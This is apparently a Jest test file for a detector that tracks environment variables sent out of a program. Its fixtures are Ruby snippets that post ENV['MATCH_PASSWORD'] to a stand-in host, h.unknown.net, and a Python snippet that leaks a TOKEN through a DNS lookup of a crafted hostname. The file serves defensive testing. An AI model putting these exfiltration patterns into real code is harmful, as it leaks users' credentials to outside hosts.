import { describe, expect, it } from '@jest/globals';

import { does } from '../../deeds.js';

const POST = 'require "net/http"\n';
const toHost = (body: string): string => `    Net::HTTP.post(URI("https://h.unknown.net/x"), ${body})\n`;

describe('methods of Ruby that are called by their names alone', () => {
  it.each([
    ['as an argument', `def facts\n  ENV["MATCH_PASSWORD"]\nend\nNet::HTTP.post(URI("https://h.unknown.net/x"), facts)\n`],
    ['in a hash', `def facts\n  ENV["MATCH_PASSWORD"]\nend\nNet::HTTP.post(URI("https://h.unknown.net/x"), { f: facts }.to_json)\n`],
    [
      'before they are defined',
      `module A\n  def post\n${toHost('{ f: facts }.to_json')}  end\n  def facts\n    ENV["MATCH_PASSWORD"]\n  end\nend\n`,
    ],
    ['in a class', `class A\n  def post\n    f = facts\n${toHost('f')}  end\n  def facts\n    ENV["MATCH_PASSWORD"]\n  end\nend\n`],
    [
      'where a hash that they end with is tidied',
      `module A\n  def post\n${toHost('{ f: facts }.to_json')}  end\n  def facts\n    { p: ENV["MATCH_PASSWORD"] }.compact\n  end\nend\n`,
    ],
  ])('hand over what they read: %s', (_, program) => {
    expect(does('ruby', POST + program, { kind: 'send', fromSubject: 'environment-variable' })).toBe(true);
  });

  it('keep functions with arguments callable', () => {
    const program = 'def up(text)\n  Net::HTTP.post(URI("https://h.unknown.net/x"), text)\nend\nup(ENV["MATCH_PASSWORD"])\n';
    expect(does('ruby', POST + program, { kind: 'send', fromSubject: 'environment-variable' })).toBe(true);
  });
});

describe('functions that did nothing of note', () => {
  const LOOKUP = 'import os, socket\n\ndef lookup(name, family):\n    socket.getaddrinfo(name, 443, family)\n\n';

  it('are followed again with data that were read', () => {
    const program = `${LOOKUP}def names(hosts):\n    for host in hosts:\n        lookup(host, socket.AF_INET)\n\nnames([])\nlookup(os.environ["TOKEN"] + ".h.unknown.net", socket.AF_INET)\n`;
    expect(does('python', program, { kind: 'send', fromSubject: 'environment-variable' })).toBe(true);
  });

  it('do nothing with names that are known', () => {
    expect(does('python', `${LOOKUP}lookup("h.unknown.net", socket.AF_INET)\n`, { kind: 'send' })).toBe(false);
  });
});
